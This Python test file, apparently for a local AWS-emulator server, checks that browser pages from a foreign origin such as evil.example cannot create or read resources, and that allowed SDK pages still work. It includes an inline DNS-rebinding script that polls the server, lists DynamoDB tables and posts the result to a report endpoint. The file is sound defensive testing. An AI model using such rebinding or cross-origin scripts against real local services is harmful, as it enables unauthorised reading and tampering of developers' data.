"""Pages in a real browser: strangers reach nothing, those who are allowed work."""

import os
import socket
import subprocess
import unittest

import boto3
import botocore.config

from browser.pages import Browser, Pages
from harness.client import Client
from harness.server import Server

FOLDER = os.path.dirname(os.path.abspath(__file__))
PAGE = "<!DOCTYPE html><title>page</title><body><script type=module src=/page.js></script>"
# What a page may learn: that there is something, and nothing of it.
HARMLESS = ("failed", "opaque", "loaded", "not loaded", "nothing came", "sent", "refused", "true")


def script(name, endpoint):
    with open(os.path.join(FOLDER, name), encoding="utf-8") as file:
        return file.read().replace("SERVER", endpoint)


def bundle(text):
    """An SDK's page in one file."""
    done = subprocess.run(
        [os.path.join("node_modules", ".bin", "esbuild"), "--bundle", "--format=esm", "--platform=browser"],
        cwd=FOLDER,
        input=text.encode(),
        stdout=subprocess.PIPE,
        check=True,
    )
    return done.stdout.decode()


def state(server):
    """All that a page could have made."""
    endpoint = server.endpoint
    options = {
        "endpoint_url": endpoint,
        "region_name": "us-east-1",
        "aws_access_key_id": "test",
        "aws_secret_access_key": "test",
        "config": botocore.config.Config(proxies={}, s3={"addressing_style": "path"}),
    }
    return {
        "tables": Client(endpoint).call("ListTables")["TableNames"],
        "users": [user["UserName"] for user in boto3.client("iam", **options).list_users()["Users"]],
        "buckets": [bucket["Name"] for bucket in boto3.client("s3", **options).list_buckets()["Buckets"]],
        "functions": boto3.client("lambda", **options).list_functions()["Functions"],
    }


NOTHING = {"tables": [], "users": [], "buckets": [], "functions": []}


class PagesTest(unittest.TestCase):
    maxDiff = None

    def check_harmless(self, results):
        self.assertGreater(len(results), 20)
        for name, outcome in results.items():
            with self.subTest(name):
                self.assertTrue(outcome.startswith(HARMLESS), outcome)

    def test_a_page_of_somebody_else(self):
        for host in ("127.0.0.1", "localhost"):
            with Server(in_memory=True) as server:
                port = server.endpoint.rsplit(":", 1)[1]
                files = {"/": PAGE, "/page.js": script("attacks.js", f"http://{host}:{port}")}
                with Pages(files) as pages, Browser(f"http://evil.example:{pages.port}/"):
                    self.check_harmless(pages.wait_for_report())
                self.assertEqual(NOTHING, state(server))

    def test_the_attacks_would_work_on_a_server_that_lets_them(self):
        """Else the test above shows nothing."""
        with Server("--cors-origins", "*", in_memory=True) as server:
            files = {"/": PAGE, "/page.js": script("attacks.js", server.endpoint)}
            with Pages(files) as pages, Browser(f"http://evil.example:{pages.port}/"):
                pages.wait_for_report()
            found = state(server)
            self.assertEqual(["stolen"], found["tables"])
            # By fetch, beacon and forms; not by what does not say which page it is of, such as images.
            self.assertEqual(["a", "d", "e", "l", "m"], sorted(found["users"]))

    def test_a_name_that_becomes_this_machine(self):
        """DNS rebinding: the page's own origin is the server all of a sudden."""
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        page_script = """
          await fetch("/report", {method: "POST", body: "{}"});
          const attempt = () => fetch("/", {method: "POST", headers: {
              "X-Amz-Target": "DynamoDB_20120810.ListTables", "Content-Type": "application/x-amz-json-1.0"}, body: "{}"})
            .then(async (response) => ({status: response.status, server: response.headers.get("server"), text: await response.text()}))
            .catch(() => null);
          let result = null;
          while (!result || !(result.server || "").includes("stator")) {
            await new Promise((resolve) => setTimeout(resolve, 100));
            result = await attempt();
          }
          await fetch("http://127.0.0.1:REPORT/report", {method: "POST", mode: "no-cors", body: JSON.stringify(result)});
        """
        with Pages({}) as reports:
            page_script = page_script.replace("REPORT", str(reports.port))
            attacker = Pages({"/": PAGE, "/page.js": page_script}, port)
            with Browser(f"http://evil.example:{port}/"):
                attacker.wait_for_report()
                attacker.close()
                with Server("--listen", f"127.0.0.1:{port}", in_memory=True):
                    result = reports.wait_for_report()
            self.assertEqual(403, result["status"], result)
            self.assertIn("--allowed-hosts", result["text"])

    def test_the_sdk_in_a_page_that_is_allowed(self):
        for host, arguments in (("localhost", []), ("app.example", ["--cors-origins", "http://app.example:PORT"])):
            with Pages({}) as pages:
                arguments = [argument.replace("PORT", str(pages.port)) for argument in arguments]
                with Server(*arguments, in_memory=True) as server:
                    pages.files.update({"/": PAGE, "/page.js": bundle(script("sdk.js", server.endpoint))})
                    with Browser(f"http://{host}:{pages.port}/"):
                        results = pages.wait_for_report()
                self.assertEqual(
                    {"length": 5000, "count": 1, "tables": ["FromThePage"], "error": "ResourceNotFoundException"}, results
                )

    def test_the_sdk_in_a_page_that_is_not(self):
        with Pages({}) as pages, Server("--cors-origins", "http://app.example", in_memory=True) as server:
            pages.files.update({"/": PAGE, "/page.js": bundle(script("sdk.js", server.endpoint))})
            with Browser(f"http://localhost:{pages.port}/"):
                self.assertIn("failure", pages.wait_for_report())
            self.assertEqual(NOTHING, state(server))


if __name__ == "__main__":
    unittest.main()
